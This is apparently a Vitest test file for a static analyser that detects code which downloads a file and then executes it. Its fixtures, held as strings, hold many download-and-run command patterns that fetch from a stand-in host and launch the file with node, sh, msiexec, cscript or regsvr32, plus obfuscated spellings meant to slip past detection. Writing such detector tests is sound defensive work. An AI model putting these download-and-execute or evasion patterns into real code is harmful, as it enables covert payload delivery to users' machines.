import { describe, expect, it } from 'vitest';
import { factsOf, profileOf } from './profile-of.ts';

const head =
  "const fs = require('fs'); const path = require('path'); const { spawn, execSync } = require('child_process');";

/** Code that downloads something to a path of this name, which `place` stands for, and then does something with it. */
function downloading(name: string, then: string): string {
  const place = `const place = path.join(require('os').tmpdir(), '${name}');`;
  return `${head} ${place} execSync(\`curl -o \${place} https://load.example/x\`); ${then}`;
}

function isToldAsRun(files: Readonly<Record<string, string>>): boolean {
  return factsOf(profileOf(files), 'data.flow').some(
    ({ source, sink }) => source === 'download' && sink === 'process.program',
  );
}

describe('what a command downloads', () => {
  it.each([
    ['x.png', 'execSync(`node ${place}`);'],
    ['x.png', "spawn('node', [place]);"],
    ['x.png', "spawn('node', ['--title', 'name', place]);"],
    ['x.png', "spawn('node', ['-r', place, './main.js']);"],
    ['x.png', "spawn('node', ['--import', place, './main.js']);"],
    ['x.png', "spawn('node', ['-e', 'require(process.argv[1])', place]);"],
    ['x.png', 'execSync(`sh < ${place}`);'],
    ['x.png', 'execSync(`. ${place}`);'],
    ['x.png', "execSync(`bash -c 'source ${place}'`);"],
    ['x.png', 'execSync(`open ${place}; sh ${place}`);'],
    ['x.png', "spawn('open', ['-a', 'Terminal', place]);"],
    ['x.command', "spawn('open', [place]);"],
    ['program', "spawn('open', [place]);"],
    ['x.json', "spawn('node', [place]);"],
    ['x.json', "require(process.env.A ? './a.json' : path.join(__dirname, 'y' + place));"],
    ['x.mjs', 'import(`${place}?.json`);'],
    ['x.msi', "spawn('msiexec', ['/quiet', '/i', place]);"],
    ['x.js', "spawn('cscript', ['//nologo', '//B', place]);"],
    ['program', "spawn('node', ['--env-file-if-exists', '.env', place]);"],
    ['program', "spawn('node', ['--import=' + place, 'app.js']);"],
    ['program', "spawn('java', ['--module-path', './mods', place]);"],
    ['x.py', "spawn('python3', ['-m', 'pytest', place]);"],
    ['program', "spawn('open', ['/tmp/a.png', place]);"],
    ['x.dll', 'execSync(`regsvr32 /s a.dll ${place}`);'],
    ['x.mjs', "import(place, { assert: { type: 'json' } });"],
    ['x.mjs', "import(place, { with: { type: 'json' }, ...{ with: {} } });"],
    ['x.mjs', "const options = { with: { type: 'json' } }; import(place, options);"],
    ['x.json', "require.extensions['.json'] = require.extensions['.js']; require(place);"],
  ])('is told as run, as %s by %s', (name, then) => {
    expect(isToldAsRun({ 'index.js': downloading(name, then) })).toBe(true);
  });

  it.each([
    ['x.png', "spawn('open', [place]);"],
    ['x.pdf', 'execSync(`xdg-open "${place}"`);'],
    ['x.png', "execSync('open ' + place);"],
    ['x.json', 'require(place);'],
    ['x.json', "import(place, { with: { type: 'json' } });"],
    ['data', "spawn('node', ['./server.js', place]);"],
    ['data', "spawn('node', [path.join(__dirname, 'worker.js'), place]);"],
    ['data', 'execSync(`node ./server.js ${place}`);'],
    ['data', "spawn('python3', ['-u', './server.py', '--data', place]);"],
    ['data', "spawn('python3', ['-m', 'zipfile', '-e', place]);"],
    ['data', "spawn('node', ['server', '--port', '80', '--db', place]);"],
    ['data.zip', 'execSync(`cmd /c tar -xf ${place}`);'],
    ['data.zip', 'execSync(`powershell -NoProfile -Command Expand-Archive -Path ${place}`);'],
    ['data', 'execSync(`bun run build --in ${place}`);'],
  ])('is not told as run, as %s by %s', (name, then) => {
    expect(isToldAsRun({ 'index.js': downloading(name, then) })).toBe(false);
  });

  it.each([
    ['sh < /tmp/helper', true],
    ['. /tmp/helper', true],
    ['source /tmp/helper', true],
    ['sh 2>/dev/null /tmp/helper', true],
    ['bash ./build.sh > /tmp/helper', false],
    ['bash ./build.sh 2>> /tmp/helper', false],
  ])('is seen in the line %s as run: %s', (line, isRun) => {
    const code = `${head} execSync('curl -o /tmp/helper https://load.example/x'); execSync('${line}');`;
    expect(isToldAsRun({ 'index.js': code })).toBe(isRun);
  });

  it.each([
    ['/dev/null', false],
    ['/dev/shm/helper', true],
  ])('is kept in %s: %s', (place, isKept) => {
    const code = `${head} execSync('curl -o ${place} https://load.example/x && sh ${place}');`;
    expect(isToldAsRun({ 'index.js': code })).toBe(isKept);
  });

  it.each([
    ["spawn('node', [place]);", true],
    ["spawn('node', ['./server.js', place]);", false],
  ])('in another file is told by %s: %s', (then, isRun) => {
    const files = {
      'index.js': `${head} const { save } = require('./save.js'); const place = path.join(__dirname, 'data.bin'); save(place); ${then}`,
      'save.js':
        "const fs = require('fs'); exports.save = async (place) => { const answer = await fetch('https://load.example/x'); fs.writeFileSync(place, await answer.text()); };",
    };
    expect(isToldAsRun(files)).toBe(isRun);
  });
});

it.each([
  ['in parts', "execSync(`cu${'rl'} -o ${place} https://load.example/x`);"],
  ['with signs as numbers', 'execSync(`\\x63url -o ${place} https://load.example/x`);'],
  ['with quotes within', "execSync(`c''url -o ${place} https://load.example/x`);"],
  ['by a name of its own', 'const go = execSync; go(`curl -o ${place} https://load.example/x`);'],
  ['by a computed member', "cp['exec' + 'Sync'](`curl -o ${place} https://load.example/x`);"],
  [
    'by a method of the function',
    'cp.execSync.apply(cp, [`curl -o ${place} https://load.example/x`]);',
  ],
])('is seen where the command is spelled otherwise: %s', (_, download) => {
  const place =
    "const cp = require('child_process'); const place = path.join(require('os').tmpdir(), 'x.png');";
  expect(isToldAsRun({ 'index.js': `${head} ${place} ${download} spawn('node', [place]);` })).toBe(
    true,
  );
});
